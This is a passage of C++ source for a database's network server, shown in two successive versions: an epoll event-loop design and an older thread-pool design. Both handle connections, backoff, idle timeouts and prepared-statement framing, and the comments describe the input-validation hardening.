/// sign, no trailing garbage, no overflow. strtoull's "parse a prefix,
/// ignore the rest" contract let "1x" execute statement 1 and let
/// overflowed lengths alias small ones.
bool parse_u64(std::string_view s, uint64_t& out) {
  if (s.empty()) return false;
  const char* first = s.data();
  const char* last = s.data() + s.size();
  auto [ptr, ec] = std::from_chars(first, last, out);
  return ec == std::errc() && ptr == last;
}

/// Ceiling for the accept-failure backoff: long enough to stop the spin,
/// short enough that a recovered fd table is noticed promptly.
constexpr int kMaxAcceptBackoffMs = 100;

/// Floor for the loop's wait when a periodic duty (idle sweep, accept
/// retry) is pending — bounds sweep latency without busy-waiting.
constexpr int kMinTickMs = 5;

void make_nonblocking_checked(int fd) {
  // accept4/eventfd set O_NONBLOCK at creation; this exists for the
  // listen socket only.
  int flags = ::fcntl(fd, F_GETFL, 0);
  if (flags >= 0) ::fcntl(fd, F_SETFL, flags | O_NONBLOCK);
}

}  // namespace

Connection::~Connection() {
  if (fd >= 0) ::close(fd);
}

Server::Server(engine::Database& db, uint16_t port)
    : Server(db, port, ServerOptions{}) {}

Server::Server(engine::Database& db, uint16_t port, ServerOptions options)
    : db_(db), options_(options) {
  listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (listen_fd_ < 0) throw std::runtime_error("socket() failed");
  int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) <
      0) {
    ::close(listen_fd_);
    throw std::runtime_error("bind() failed");
  }
  socklen_t len = sizeof(addr);
  ::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&addr), &len);
  port_ = ntohs(addr.sin_port);
  if (::listen(listen_fd_, 128) < 0) {
    ::close(listen_fd_);
    throw std::runtime_error("listen() failed");
  }
  make_nonblocking_checked(listen_fd_);
}

Server::~Server() { stop(); }

void Server::start() {
  if (running_.exchange(true)) return;
  epoll_fd_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (epoll_fd_ < 0) {
    running_ = false;
    throw std::runtime_error("epoll_create1() failed");
  }
  wake_fd_ = ::eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
  if (wake_fd_ < 0) {
    ::close(epoll_fd_);
    epoll_fd_ = -1;
    running_ = false;
    throw std::runtime_error("eventfd() failed");
  }
  epoll_event ev{};
  ev.events = EPOLLIN;
  ev.data.fd = wake_fd_;
  ::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, wake_fd_, &ev);
  ev.events = EPOLLIN;
  ev.data.fd = listen_fd_;
  ::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, listen_fd_, &ev);
  listen_armed_ = true;

  size_t n_workers = std::max<size_t>(1, options_.worker_threads);
  workers_.reserve(n_workers);
  for (size_t i = 0; i < n_workers; ++i) {
    workers_.emplace_back([this] { worker_body(); });
  }
  loop_thread_ = std::thread([this] { loop_body(); });
}

void Server::stop() {
  if (!running_.exchange(false)) return;
  // Wake the loop; it observes running_ == false and exits.
  uint64_t one = 1;
  (void)!::write(wake_fd_, &one, sizeof(one));
  if (loop_thread_.joinable()) loop_thread_.join();
  // Wake the workers; they drain any still-claimed connections and exit.
  {
    std::lock_guard lock(queue_mu_);
  }
  queue_cv_.notify_all();
  for (auto& w : workers_) {
    if (w.joinable()) w.join();
  }
  workers_.clear();
  // Single-threaded from here. Tear down whatever connections remain —
  // a connection that dies mid-transaction must not leave the engine
  // locked against every other session.
  for (auto& [fd, conn] : conns_) {
    db_.rollback_if_owner(conn->session.id());
    --active_;
  }
  conns_.clear();  // destructors close the fds
  {
    std::lock_guard lock(notify_mu_);
    notify_.clear();
  }
  {
    std::lock_guard lock(queue_mu_);
    work_.clear();
  }
  if (epoll_fd_ >= 0) ::close(epoll_fd_);
  epoll_fd_ = -1;
  if (wake_fd_ >= 0) ::close(wake_fd_);
  wake_fd_ = -1;
  if (listen_fd_ >= 0) ::close(listen_fd_);
  listen_fd_ = -1;
}

// ---------------------------------------------------------------- loop --

int Server::epoll_timeout_ms() const {
  // Sleep forever unless a periodic duty is pending: idle sweeps tick at
  // half the deadline; an accept backoff wakes us when the retry is due.
  int timeout = -1;
  if (options_.idle_timeout_ms > 0) {
    timeout = std::max(kMinTickMs, options_.idle_timeout_ms / 2);
  }
  if (!listen_armed_ && running_) {
    auto now = std::chrono::steady_clock::now();
    auto until = std::chrono::duration_cast<std::chrono::milliseconds>(
                     accept_retry_at_ - now)
                     .count();
    int ms = std::max<int>(kMinTickMs, static_cast<int>(until));
    timeout = timeout < 0 ? ms : std::min(timeout, ms);
  }
  return timeout;
}

void Server::loop_body() {
  constexpr int kMaxEvents = 64;
  epoll_event events[kMaxEvents];
  while (running_) {
    int n = ::epoll_wait(epoll_fd_, events, kMaxEvents, epoll_timeout_ms());
    if (!running_) break;
    if (n < 0) {
      if (errno == EINTR) continue;
      common::log_warn(std::string("net: epoll_wait failed: ") +
                       std::strerror(errno));
      break;
    }
    for (int i = 0; i < n; ++i) {
      const int fd = events[i].data.fd;
      if (fd == wake_fd_) {
        uint64_t drain = 0;
        (void)!::read(wake_fd_, &drain, sizeof(drain));
        handle_notifies();
        continue;
      }
      if (fd == listen_fd_) {
        handle_accept();
        continue;
      }
      auto it = conns_.find(fd);
      if (it == conns_.end()) continue;  // torn down earlier this batch
      std::shared_ptr<Connection> conn = it->second;
      if (events[i].events & (EPOLLIN | EPOLLERR | EPOLLHUP)) {
        handle_readable(conn);
      }
      if (!conn->finalized && (events[i].events & EPOLLOUT)) {
        handle_writable(conn);
      }
    }
    // Re-arm accept once its backoff deadline passes.
    if (!listen_armed_ &&
        std::chrono::steady_clock::now() >= accept_retry_at_) {
      epoll_event ev{};
      ev.events = EPOLLIN;
      ev.data.fd = listen_fd_;
      ::epoll_ctl(epoll_fd_, EPOLL_CTL_ADD, listen_fd_, &ev);
      listen_armed_ = true;
    }
    if (options_.idle_timeout_ms > 0) sweep_idle();
  }
}

void Server::handle_accept() {
  for (;;) {
    int fd = ::accept4(listen_fd_, nullptr, nullptr, SOCK_NONBLOCK);
    if (fd < 0 &&
        (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR ||
         errno == ECONNABORTED)) {
      return;  // drained the backlog (or a connection died in it)
    }
    if (fd >= 0) {
      SEPTIC_FAILPOINT_HOOK("net.server.accept.fail") {
        // Simulate persistent accept() failure (EMFILE: the process is out
        // of fds, so the pending connection cannot be taken).
        ::close(fd);
        fd = -1;
      }
    }
    if (fd < 0) {
      // EMFILE/ENFILE pressure persists across retries: spinning on accept
      // burns the CPU the live connections need to drain (which is what
      // frees fds). Deregister the listener, capped backoff, count it.
      ++accept_failures_;
      accept_backoff_ms_ = accept_backoff_ms_ == 0
                               ? 1
                               : std::min(accept_backoff_ms_ * 2,
                                          kMaxAcceptBackoffMs);
      accept_retry_at_ = std::chrono::steady_clock::now() +
                         std::chrono::milliseconds(accept_backoff_ms_);
      if (listen_armed_) {
        ::epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, listen_fd_, nullptr);
        listen_armed_ = false;
      }
      return;
    }
    accept_backoff_ms_ = 0;
    if (options_.max_connections != 0 &&
        active_.load() >= options_.max_connections) {
      // Past the cap: a graceful verdict, not a silent RST. The client
      // sees "BUSY: ..." and can back off and retry.
      ++rejected_;
      send_frame_now(fd, Frame{Opcode::kError,
                               "BUSY: server connection limit reached (" +
                                   std::to_string(options_.max_connections) +
                                   " concurrent connections)"});
      ::close(fd);
      continue;
    }
    ++connections_;
    ++active_;
    auto conn = std::make_shared<Connection>(fd);
    conn->decoder.set_max_frame_size(options_.max_frame_size);
    conn->last_activity = std::chrono::steady_clock::now();
    conns_.emplace(fd, conn);
    arm(conn, EPOLLIN);
  }
}

void Server::arm(const std::shared_ptr<Connection>& conn, uint32_t events) {
  if (conn->epoll_events == events) return;
  epoll_event ev{};
  ev.events = events;
  ev.data.fd = conn->fd;
  int op = conn->epoll_events == 0 ? EPOLL_CTL_ADD : EPOLL_CTL_MOD;
  if (events == 0) {
    ::epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, conn->fd, nullptr);
  } else {
    ::epoll_ctl(epoll_fd_, op, conn->fd, &ev);
  }
  conn->epoll_events = events;
}

void Server::handle_readable(const std::shared_ptr<Connection>& conn) {
  char buf[16384];
  std::vector<Frame> frames;
  bool peer_gone = false;
  bool drop_now = false;       // fault injection: vanish without a reply
  std::string fatal_reply;     // protocol error: reply once, then close
  for (;;) {
    ssize_t n = ::recv(conn->fd, buf, sizeof(buf), 0);
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
    if (n <= 0) {
      peer_gone = true;
      break;
    }
    SEPTIC_FAILPOINT_HOOK("net.server.recv.drop") { drop_now = true; }
    if (drop_now) break;
    conn->last_activity = std::chrono::steady_clock::now();
    try {
      conn->decoder.feed(std::string_view(buf, static_cast<size_t>(n)));
      while (auto frame = conn->decoder.next()) {
        frames.push_back(std::move(*frame));
      }
    } catch (const FrameTooLarge& e) {
      // Declared length over the guard: reject politely, then close — the
      // stream is unrecoverable (we cannot resynchronize mid-frame).
      fatal_reply = encode_frame(
          Frame{Opcode::kError, std::string("FRAME_TOO_LARGE: ") + e.what()});
      break;
    } catch (const std::exception& e) {
      common::log_warn(std::string("net: dropping connection: ") + e.what());
      fatal_reply = encode_frame(
          Frame{Opcode::kError, std::string("PROTOCOL: ") + e.what()});
      break;
    }
  }

  bool should_enqueue = false;
  {
    std::lock_guard lock(conn->mu_);
    if (drop_now) conn->dead = true;
    if (!conn->dead && !conn->closing && !frames.empty()) {
      for (auto& f : frames) conn->requests.push_back(std::move(f));
      if (!conn->claimed) {
        conn->claimed = true;
        should_enqueue = true;
      }
    }
    if (!fatal_reply.empty()) {
      conn->out += fatal_reply;
      conn->closing = true;
    }
    if (peer_gone) conn->peer_closed = true;
  }
  if (should_enqueue) {
    {
      std::lock_guard lock(queue_mu_);
      work_.push_back(conn);
    }
    queue_cv_.notify_one();
  }
  reconcile(conn);
}

void Server::handle_writable(const std::shared_ptr<Connection>& conn) {
  {
    std::lock_guard lock(conn->mu_);
    if (!conn->dead && !conn->out.empty() && !flush_some(*conn)) {
      conn->dead = true;
    }
  }
  reconcile(conn);
}

void Server::handle_notifies() {
  std::vector<std::shared_ptr<Connection>> batch;
  {
    std::lock_guard lock(notify_mu_);
    batch.swap(notify_);
  }
  for (auto& conn : batch) {
    if (!conn->finalized) reconcile(conn);
  }
}

void Server::reconcile(const std::shared_ptr<Connection>& conn) {
  if (conn->finalized) return;
  bool teardown;
  bool want_out;
  bool want_in;
  {
    std::lock_guard lock(conn->mu_);
    if (conn->dead) {
      teardown = true;
      want_out = false;
      want_in = false;
    } else {
      const bool drained = conn->out.empty();
      const bool no_more_requests =
          !conn->claimed && conn->requests.empty();
      teardown = drained && no_more_requests &&
                 (conn->closing || conn->peer_closed);
      want_out = !drained;
      // Stop reading once the connection is winding down (a closed peer's
      // fd is permanently readable — re-arming EPOLLIN would spin).
      want_in = !conn->closing && !conn->peer_closed;
    }
  }
  if (teardown) {
    finalize(conn);
    return;
  }
  arm(conn, (want_in ? EPOLLIN : 0u) | (want_out ? EPOLLOUT : 0u));
}

bool Server::finalize(const std::shared_ptr<Connection>& conn) {
  if (conn->finalized) return true;
  {
    // The claim check is the teardown barrier: a worker that still owns
    // the connection will notify us again when it unclaims.
    std::lock_guard lock(conn->mu_);
    if (conn->claimed) return false;
  }
  if (conn->epoll_events != 0) {
    ::epoll_ctl(epoll_fd_, EPOLL_CTL_DEL, conn->fd, nullptr);
    conn->epoll_events = 0;
  }
  db_.rollback_if_owner(conn->session.id());
  conn->finalized = true;
  conns_.erase(conn->fd);  // the Connection destructor closes the fd
  --active_;
  return true;
}

void Server::sweep_idle() {
  const auto now = std::chrono::steady_clock::now();
  const auto deadline = std::chrono::milliseconds(options_.idle_timeout_ms);
  std::vector<std::shared_ptr<Connection>> expired;
  for (auto& entry : conns_) {
    const std::shared_ptr<Connection>& conn = entry.second;
    bool busy;
    {
      std::lock_guard lock(conn->mu_);
      busy = conn->claimed || !conn->requests.empty() || !conn->out.empty();
    }
    if (busy) {
      // Active on the engine plane counts as activity: the idle clock
      // restarts when the work finishes, not during it.
      conn->last_activity = now;
      continue;
    }
    if (now - conn->last_activity >= deadline) expired.push_back(conn);
  }
  for (auto& conn : expired) finalize(conn);
}

// -------------------------------------------------------------- workers --

void Server::worker_body() {
  for (;;) {
    std::shared_ptr<Connection> conn;
    {
      std::unique_lock lock(queue_mu_);
      queue_cv_.wait(lock, [this] {
        return !running_.load(std::memory_order_acquire) || !work_.empty();
      });
      if (work_.empty()) {
        if (!running_) return;
        continue;
      }
      conn = std::move(work_.front());
      work_.pop_front();
    }
    serve(conn);
  }
}

void Server::serve(const std::shared_ptr<Connection>& conn) {
  for (;;) {
    std::deque<Frame> batch;
    {
      std::lock_guard lock(conn->mu_);
      if (conn->dead || conn->closing) conn->requests.clear();
      if (conn->requests.empty()) {
        // Unclaim under the same lock the loop appends under: a frame
        // arriving now either saw claimed (we loop again? no — we are
        // leaving) or arrives after this store and re-claims. No frame is
        // ever stranded on an unclaimed connection.
        conn->claimed = false;
        break;
      }
      batch.swap(conn->requests);
    }

    std::string replies;
    bool quit = false;
    bool drop = false;
    for (Frame& frame : batch) {
      Frame reply = handle_frame(*conn, frame, quit);
      if (quit) break;  // QUIT answers nothing and discards the rest
      SEPTIC_FAILPOINT_HOOK("net.server.send.drop") { drop = true; }
      if (drop) break;
      replies += encode_frame(reply);
    }

    {
      std::lock_guard lock(conn->mu_);
      if (drop) {
        conn->dead = true;
      } else {
        conn->out += replies;
        if (quit) conn->closing = true;
        // Opportunistic flush from the worker: in the common request →
        // reply cadence the kernel buffer has room and the loop never has
        // to arm EPOLLOUT at all.
        if (!conn->dead && !conn->out.empty() && !flush_some(*conn)) {
          conn->dead = true;
        }
      }
    }
  }

  // Hand the connection's fate back to the loop when it needs attention:
  // flush residue, or teardown once out drains.
  bool needs_loop;
  {
    std::lock_guard lock(conn->mu_);
    needs_loop = conn->dead || conn->closing || conn->peer_closed ||
                 !conn->out.empty();
  }
  if (needs_loop) notify_loop(conn);
}

bool Server::flush_some(Connection& conn) {
  size_t sent = 0;
  while (sent < conn.out.size()) {
    ssize_t w = ::send(conn.fd, conn.out.data() + sent,
                       conn.out.size() - sent, MSG_NOSIGNAL);
    if (w < 0 && errno == EINTR) continue;  // a signal is not a dead peer
    if (w < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
    if (w <= 0) {
      conn.out.clear();
      return false;
    }
    sent += static_cast<size_t>(w);
  }
  conn.out.erase(0, sent);
  return true;
}

void Server::notify_loop(const std::shared_ptr<Connection>& conn) {
  {
    std::lock_guard lock(notify_mu_);
    notify_.push_back(conn);
  }
  uint64_t one = 1;
  (void)!::write(wake_fd_, &one, sizeof(one));
}

// ---------------------------------------------------------- the protocol --

Frame Server::handle_frame(Connection& conn, const Frame& frame, bool& quit) {
  if (frame.op == Opcode::kQuit) {
    quit = true;
    return {};
  }
  Frame reply;
  try {
    switch (frame.op) {
      case Opcode::kQuery: {
        engine::ResultSet rs = db_.execute(conn.session, frame.payload);
        if (rs.has_rows()) {
          reply.op = Opcode::kRows;
          reply.payload = rs.to_text();
        } else {
          reply.op = Opcode::kOk;
          reply.payload = "affected=" + std::to_string(rs.affected_rows) +
                          " last_insert_id=" +
                          std::to_string(rs.last_insert_id);
        }
        break;
      }
      case Opcode::kPrepare: {
        // The verdict happens inside prepare(): a blocked template throws
        // here and the reply below is "BLOCKED: ..." — no id is ever
        // issued for it, so there is nothing to EXEC later.
        engine::PreparedStatementPtr ps =
            db_.prepare(conn.session, frame.payload);
        const size_t cap = std::max<size_t>(1, options_.max_prepared_per_connection);
        while (conn.prepared.size() >= cap) {
          // Registry cap: evict the least-recently-executed handle. An
          // unbounded registry let one connection grow server memory
          // without limit; clients that care close explicitly.
          uint64_t victim = conn.lru.back();
          conn.lru.pop_back();
          conn.prepared.erase(victim);
        }
        uint64_t id = conn.next_stmt_id++;
        conn.lru.push_front(id);
        conn.prepared.emplace(
            id, Connection::PreparedEntry{std::move(ps), conn.lru.begin()});
        reply.op = Opcode::kOk;
        reply.payload = "stmt=" + std::to_string(id);
        break;
      }
      case Opcode::kExec: {
        // payload: "<id>" + (0x1F + "<len>:<repr>")*
        std::string_view body = frame.payload;
        size_t sep = body.find('\x1f');
        std::string_view id_s =
            sep == std::string_view::npos ? body : body.substr(0, sep);
        uint64_t id = 0;
        if (!parse_u64(id_s, id)) {
          throw engine::DbError(engine::ErrorCode::kSyntax,
                                "malformed statement id");
        }
        auto it = conn.prepared.find(id);
        if (it == conn.prepared.end()) {
          throw engine::DbError(engine::ErrorCode::kSyntax,
                                "unknown prepared statement id");
        }
        // Parameters are length-prefixed ("<len>:<repr-bytes>") so
        // arbitrary bytes inside string values cannot break framing.
        std::vector<sql::Value> params;
        size_t pos = sep == std::string_view::npos ? body.size() : sep + 1;
        while (pos < body.size()) {
          size_t colon = body.find(':', pos);
          if (colon == std::string_view::npos) {
            throw engine::DbError(engine::ErrorCode::kSyntax,
                                  "malformed parameter framing");
          }
          uint64_t len = 0;
          if (!parse_u64(body.substr(pos, colon - pos), len)) {
            throw engine::DbError(engine::ErrorCode::kSyntax,
                                  "malformed parameter framing");
          }
          // The declared length is attacker-controlled: compare it
          // against the bytes that remain, never via `colon + 1 + len`
          // (a huge len wraps size_t and sails past the check).
          size_t remaining = body.size() - colon - 1;
          if (len > remaining) {
            throw engine::DbError(
                engine::ErrorCode::kSyntax,
                "truncated parameter: declared " + std::to_string(len) +
                    " byte(s), " + std::to_string(remaining) + " remain");
          }
          sql::Value v;
          if (!sql::Value::from_repr(
                  body.substr(colon + 1, static_cast<size_t>(len)), v)) {
            throw engine::DbError(engine::ErrorCode::kSyntax,
                                  "malformed parameter encoding");
          }
          params.push_back(std::move(v));
          pos = colon + 1 + static_cast<size_t>(len);
        }
        // Touch the LRU: this handle just proved itself live.
        conn.lru.splice(conn.lru.begin(), conn.lru, it->second.lru_pos);
        engine::ResultSet rs =
            db_.execute_prepared(conn.session, *it->second.stmt, params);
        if (rs.has_rows()) {
          reply.op = Opcode::kRows;
          reply.payload = rs.to_text();
        } else {
          reply.op = Opcode::kOk;
          reply.payload = "affected=" + std::to_string(rs.affected_rows) +
                          " last_insert_id=" +
                          std::to_string(rs.last_insert_id);
        }
        break;
      }
      case Opcode::kStmtClose: {
        uint64_t id = 0;
        if (!parse_u64(frame.payload, id)) {
          throw engine::DbError(engine::ErrorCode::kSyntax,
                                "malformed statement id");
        }
        auto it = conn.prepared.find(id);
        if (it == conn.prepared.end()) {
          throw engine::DbError(engine::ErrorCode::kSyntax,
                                "unknown prepared statement id");
        }
        conn.lru.erase(it->second.lru_pos);
        conn.prepared.erase(it);
        reply.op = Opcode::kOk;
        reply.payload = "closed=" + std::to_string(id);
        break;
      }
      default:
        // A server-to-client opcode arriving as a request. The frame was
        // well-formed, so the stream is still in sync: answer it (every
        // request gets exactly one reply — the old server's silent skip
        // desynchronized pipelined clients) and keep the connection.
        reply.op = Opcode::kError;
        reply.payload =
            "PROTOCOL: unexpected opcode " +
            std::to_string(static_cast<unsigned>(frame.op)) +
            " in request";
        break;
    }
  } catch (const engine::DbError& e) {
    reply.op = Opcode::kError;
    reply.payload =
        std::string(engine::error_code_name(e.code())) + ": " + e.what();
  }
  return reply;
}

}  // namespace septic::net

#include "net/server.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <cstring>
#include <stdexcept>
#include <unordered_map>

#include "common/failpoint.h"
#include "common/log.h"
#include "engine/error.h"
#include "net/protocol.h"

namespace septic::net {

namespace {

/// Best-effort frame send; returns false when the peer is gone.
bool send_frame(int fd, const Frame& frame) {
  std::string bytes = encode_frame(frame);
  size_t sent = 0;
  while (sent < bytes.size()) {
    ssize_t w =
        ::send(fd, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (w <= 0) return false;
    sent += static_cast<size_t>(w);
  }
  return true;
}

void set_socket_timeouts(int fd, int timeout_ms) {
  if (timeout_ms <= 0) return;
  timeval tv{};
  tv.tv_sec = timeout_ms / 1000;
  tv.tv_usec = (timeout_ms % 1000) * 1000;
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

/// Ceiling for the accept-failure backoff: long enough to stop the spin,
/// short enough that a recovered fd table is noticed promptly.
constexpr int kMaxAcceptBackoffMs = 100;

}  // namespace

Server::Server(engine::Database& db, uint16_t port)
    : Server(db, port, ServerOptions{}) {}

Server::Server(engine::Database& db, uint16_t port, ServerOptions options)
    : db_(db), options_(options) {
  listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (listen_fd_ < 0) throw std::runtime_error("socket() failed");
  int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) <
      0) {
    ::close(listen_fd_);
    throw std::runtime_error("bind() failed");
  }
  socklen_t len = sizeof(addr);
  ::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&addr), &len);
  port_ = ntohs(addr.sin_port);
  if (::listen(listen_fd_, 64) < 0) {
    ::close(listen_fd_);
    throw std::runtime_error("listen() failed");
  }
}

Server::~Server() { stop(); }

void Server::start() {
  if (running_.exchange(true)) return;
  pool_.reserve(options_.worker_threads);
  for (size_t i = 0; i < options_.worker_threads; ++i) {
    pool_.emplace_back([this] { pool_worker(); });
  }
  accept_thread_ = std::thread([this] { accept_loop(); });
}

void Server::stop() {
  if (!running_.exchange(false)) return;
  ::shutdown(listen_fd_, SHUT_RDWR);
  if (accept_thread_.joinable()) accept_thread_.join();
  ::close(listen_fd_);
  listen_fd_ = -1;
  // Connections still queued were never served: close them outright. Once
  // queue_mu_ is released with running_ false, no worker can pop again.
  {
    std::lock_guard lock(queue_mu_);
    for (int fd : pending_) {
      ::close(fd);
      --active_;
    }
    pending_.clear();
  }
  queue_cv_.notify_all();
  {
    std::lock_guard lock(conns_mu_);
    // Wake workers blocked in recv(). Workers close their fd under this
    // same mutex with `closed` set, so an un-closed fd here is live.
    for (auto& c : conns_) {
      if (!c->closed) ::shutdown(c->fd, SHUT_RDWR);
    }
  }
  for (auto& t : pool_) {
    if (t.joinable()) t.join();
  }
  pool_.clear();
  std::vector<std::unique_ptr<OverflowWorker>> overflow;
  {
    std::lock_guard lock(overflow_mu_);
    overflow.swap(overflow_);
  }
  for (auto& w : overflow) {
    if (w->thread.joinable()) w->thread.join();
  }
}

void Server::reap_overflow_locked() {
  std::erase_if(overflow_, [](const std::unique_ptr<OverflowWorker>& w) {
    if (!w->done.load(std::memory_order_acquire)) return false;
    if (w->thread.joinable()) w->thread.join();
    return true;
  });
}

int Server::pop_pending(bool wait) {
  std::unique_lock lock(queue_mu_);
  if (wait) {
    ++idle_workers_;
    queue_cv_.wait(lock, [this] { return !running_ || !pending_.empty(); });
    --idle_workers_;
  }
  if (!running_ || pending_.empty()) return -1;
  int fd = pending_.front();
  pending_.pop_front();
  return fd;
}

void Server::pool_worker() {
  while (running_) {
    int fd = pop_pending(/*wait=*/true);
    if (fd < 0) continue;  // stopping; the while re-checks
    serve_connection(fd);
  }
}

void Server::overflow_worker(OverflowWorker* self) {
  // Burst relief: drain whatever is queued right now, then retire.
  for (;;) {
    int fd = pop_pending(/*wait=*/false);
    if (fd < 0) break;
    serve_connection(fd);
  }
  self->done.store(true, std::memory_order_release);
}

void Server::accept_loop() {
  int backoff_ms = 0;
  while (running_) {
    int fd = ::accept(listen_fd_, nullptr, nullptr);
    SEPTIC_FAILPOINT_HOOK("net.server.accept.fail") {
      // Simulate persistent accept() failure (EMFILE: the process is out
      // of fds, so the pending connection cannot be taken).
      if (fd >= 0) ::close(fd);
      fd = -1;
    }
    if (fd < 0) {
      if (!running_) break;
      // EMFILE/ENFILE pressure persists across retries: spinning on
      // accept() burns the CPU the live connections need to drain (which
      // is what frees fds). Back off, capped, and count it.
      ++accept_failures_;
      backoff_ms = backoff_ms == 0
                       ? 1
                       : std::min(backoff_ms * 2, kMaxAcceptBackoffMs);
      std::this_thread::sleep_for(std::chrono::milliseconds(backoff_ms));
      continue;
    }
    backoff_ms = 0;
    if (options_.max_connections != 0 &&
        active_.load() >= options_.max_connections) {
      // Past the cap: a graceful verdict, not a silent RST. The client
      // sees "BUSY: ..." and can back off and retry.
      ++rejected_;
      send_frame(fd, Frame{Opcode::kError,
                           "BUSY: server connection limit reached (" +
                               std::to_string(options_.max_connections) +
                               " concurrent connections)"});
      ::close(fd);
      continue;
    }
    ++connections_;
    ++active_;
    bool saturated;
    {
      std::lock_guard lock(queue_mu_);
      pending_.push_back(fd);
      // idle_workers_ and pending_ are consistent under queue_mu_: each
      // idle worker is committed to taking exactly one queued fd, so a
      // queue longer than the idle count needs burst relief or the excess
      // would wait behind live connections.
      saturated = pending_.size() > idle_workers_;
    }
    queue_cv_.notify_one();
    if (saturated) {
      std::lock_guard lock(overflow_mu_);
      reap_overflow_locked();
      auto worker = std::make_unique<OverflowWorker>();
      OverflowWorker* raw = worker.get();
      overflow_.push_back(std::move(worker));
      ++overflow_spawned_;
      raw->thread = std::thread([this, raw] { overflow_worker(raw); });
    }
  }
}

void Server::serve_connection(int fd) {
  // Register the fd so stop() can wake a blocking recv(); the registry,
  // not this thread, is who stop() trusts about fd liveness.
  Conn* conn = nullptr;
  {
    std::lock_guard lock(conns_mu_);
    auto owned = std::make_unique<Conn>();
    owned->fd = fd;
    conn = owned.get();
    conns_.push_back(std::move(owned));
  }
  auto unregister = [this, conn, fd] {
    std::lock_guard lock(conns_mu_);
    ::close(fd);
    conn->closed = true;
    std::erase_if(conns_, [conn](const std::unique_ptr<Conn>& c) {
      return c.get() == conn;
    });
    --active_;
  };
  // stop() may have run between the queue pop and the registration above;
  // its shutdown pass could not see this fd, so bail out here instead of
  // blocking in recv() forever.
  if (!running_) {
    unregister();
    return;
  }

  set_socket_timeouts(fd, options_.idle_timeout_ms);
  engine::Session session("net-client");
  FrameDecoder decoder;
  decoder.set_max_frame_size(options_.max_frame_size);
  // Per-connection prepared statements, like MySQL's.
  std::unordered_map<uint64_t, std::string> prepared;
  uint64_t next_stmt_id = 1;
  char buf[4096];
  bool open = true;
  while (open) {
    ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
    if (n <= 0) break;  // peer gone, shutdown(), or idle timeout (EAGAIN)
    SEPTIC_FAILPOINT_HOOK("net.server.recv.drop") break;
    decoder.feed(std::string_view(buf, static_cast<size_t>(n)));
    try {
      while (auto frame = decoder.next()) {
        if (frame->op == Opcode::kQuit) {
          open = false;
          break;
        }
        if (frame->op != Opcode::kQuery && frame->op != Opcode::kPrepare &&
            frame->op != Opcode::kExec) {
          continue;
        }
        Frame reply;
        try {
          engine::ResultSet rs;
          bool has_result = true;
          if (frame->op == Opcode::kPrepare) {
            uint64_t id = next_stmt_id++;
            prepared[id] = frame->payload;
            reply.op = Opcode::kOk;
            reply.payload = "stmt=" + std::to_string(id);
            has_result = false;
          } else if (frame->op == Opcode::kExec) {
            // payload: "<id>" + (0x1F + repr)*
            std::string_view body = frame->payload;
            size_t sep = body.find('\x1f');
            std::string_view id_s =
                sep == std::string_view::npos ? body : body.substr(0, sep);
            uint64_t id = std::strtoull(std::string(id_s).c_str(), nullptr, 10);
            auto it = prepared.find(id);
            if (it == prepared.end()) {
              throw engine::DbError(engine::ErrorCode::kSyntax,
                                    "unknown prepared statement id");
            }
            // Parameters are length-prefixed ("<len>:<repr-bytes>") so
            // arbitrary bytes inside string values cannot break framing.
            std::vector<sql::Value> params;
            size_t pos = sep == std::string_view::npos ? body.size() : sep + 1;
            while (pos < body.size()) {
              size_t colon = body.find(':', pos);
              if (colon == std::string_view::npos) {
                throw engine::DbError(engine::ErrorCode::kSyntax,
                                      "malformed parameter framing");
              }
              size_t len = std::strtoull(
                  std::string(body.substr(pos, colon - pos)).c_str(), nullptr,
                  10);
              // The declared length is attacker-controlled: compare it
              // against the bytes that remain, never via `colon + 1 + len`
              // (a huge len wraps size_t and sails past the check).
              size_t remaining = body.size() - colon - 1;
              if (len > remaining) {
                throw engine::DbError(
                    engine::ErrorCode::kSyntax,
                    "truncated parameter: declared " + std::to_string(len) +
                        " byte(s), " + std::to_string(remaining) + " remain");
              }
              sql::Value v;
              if (!sql::Value::from_repr(body.substr(colon + 1, len), v)) {
                throw engine::DbError(engine::ErrorCode::kSyntax,
                                      "malformed parameter encoding");
              }
              params.push_back(std::move(v));
              pos = colon + 1 + len;
            }
            rs = db_.execute_prepared(session, it->second, params);
          } else {
            rs = db_.execute(session, frame->payload);
          }
          if (has_result) {
            if (rs.has_rows()) {
              reply.op = Opcode::kRows;
              reply.payload = rs.to_text();
            } else {
              reply.op = Opcode::kOk;
              reply.payload = "affected=" + std::to_string(rs.affected_rows) +
                              " last_insert_id=" +
                              std::to_string(rs.last_insert_id);
            }
          }
        } catch (const engine::DbError& e) {
          reply.op = Opcode::kError;
          reply.payload =
              std::string(engine::error_code_name(e.code())) + ": " + e.what();
        }
